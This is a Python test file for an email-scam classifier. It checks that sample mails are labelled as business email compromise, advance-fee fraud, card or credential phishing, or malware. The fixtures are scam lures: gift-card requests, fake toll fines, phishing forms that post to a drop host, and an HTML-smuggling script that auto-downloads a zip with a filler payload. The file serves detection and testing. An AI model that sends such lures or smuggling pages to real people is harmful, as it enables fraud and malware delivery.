"""What a whole mail is called: the kind follows from what it demands of the reader, and stays general where nothing tells."""

from __future__ import annotations

import pytest

import mails
from sabaku import checks, data
from sabaku.app import examine, prepare
from sabaku.checks._check import run
from sabaku.model import Input

CARDS = "Please buy four gift cards of $100 each and send me pictures of the codes. "


def told(text: str, sender: str, subject: str = "Notice", html: str = "", files: list[dict[str, str]] | None = None) -> str:
    """The category of a mail with these words."""
    body: dict[str, object] = {"html": html} if html else {"text": text}
    if files:
        body["files"] = files
    raw = mails.build({"base": "en", "headers": {"From": sender, "Subject": subject}, "body": body})
    return examine(Input(raw)).verdict.category


@pytest.mark.parametrize(
    ("text", "sender", "category"),
    [
        (CARDS + "I am in a meeting, you will be reimbursed.", "Glenn Avery <avery@gmail.com>", "bec"),
        (CARDS + "They are for women at the hospital.", "Pastor Glenn Avery <avery.771@gmail.com>", "bec"),
        (CARDS + "I miss you, my love, and cannot pay for the visa.", "Mia <mia.sun@gmail.com>", "advance-fee"),
        (CARDS + "This is your first assignment as a mystery shopper; keep $60.", "Quality <q@gmail.com>", "advance-fee"),
        (CARDS + "Thank you so much.", "Mia <mia.sun@gmail.com>", "advance-fee"),
    ],
)
def test_gift_cards_by_who_asks(text: str, sender: str, category: str) -> None:
    assert told(text, sender) == category


FINE = "You have an unpaid toll violation. Your vehicle registration will be suspended within 24 hours."


@pytest.mark.parametrize(
    ("text", "category"),
    [
        (f"{FINE} Pay the balance of $6.99 now: https://toll.example.net/pay", "card-phishing"),
        ("You are commanded to appear before the court. Download the case file: https://claims.example.net/c/5581", "malware"),
        ("A complaint has been filed against you. Respond within 24 hours: https://claims.example.net/c/5581", "phishing"),
    ],
)
def test_a_fine_is_no_virus(text: str, category: str) -> None:
    assert told(text, "PayPal <notice@toll-pay.example>", "Final notice") == category


def test_a_payment_wanted_behind_a_link_with_the_readers_address_is_no_login() -> None:
    link = "https://click.example.net/co?who=user@recipient.example"
    html = f"<p>Your account is suspended. Update your payment details within 24 hours.</p><a href='{link}'>Update now</a>"
    assert told("", "Netflix <info@journal.example>", "Payment failed", html) == "card-phishing"


def test_to_confirm_ones_data_is_no_login_where_no_account_is_spoken_of() -> None:
    link = "<a href='https://bonus.example.net/p/7'>Go</a>"
    vague = f"<p>Confirm your details within 24 hours to receive the voucher.</p>{link}"
    account = f"<p>Confirm your details within 24 hours, or your account will be closed.</p>{link}"
    sender = "Rossmann <service@friends.example>"

    assert [told("", sender, "Rossmann", html) for html in (vague, account)] == ["phishing", "credential-phishing"]


@pytest.mark.parametrize(
    ("page", "category"),
    [
        ("<form action='https://drop.example.net/n.php'><input type='password' name='pw'></form>", "credential-phishing"),
        ("<form action='https://drop.example.net/n.php'><input name='cvv'></form>", "card-phishing"),
        (
            "<script>var b=atob('UEsDBBQAAAAIAA" + "QUJD" * 120 + "');var a=document.createElement('a');"
            "a.href=URL.createObjectURL(new Blob([b]));a.download='Invoice.zip';a.click();</script>",
            "malware",
        ),
    ],
)
def test_an_attached_page_by_what_it_does(page: str, category: str) -> None:
    files = [{"name": "Invoice_7712.pdf.html", "type": "text/html", "text": f"<html><body>{page}</body></html>"}]
    text = "Dear Sir, please open the attached invoice and confirm receipt."
    assert told(text, "Accounts Payable <ap@freshfarm.example>", "Invoice 7712", files=files) == category


def test_what_a_hit_says_is_a_known_kind() -> None:
    kinds = data.toml("kinds").keys()
    for text in (CARDS + "I am in a meeting.", f"{FINE} Pay now: https://toll.example.net/pay"):
        case = prepare(Input(mails.build({"base": "en", "body": {"text": text}})))
        ran = run(checks.catalogue().values(), case)
        assert ran
        assert {kind for it in ran for kind in it.speaks_for} <= kinds
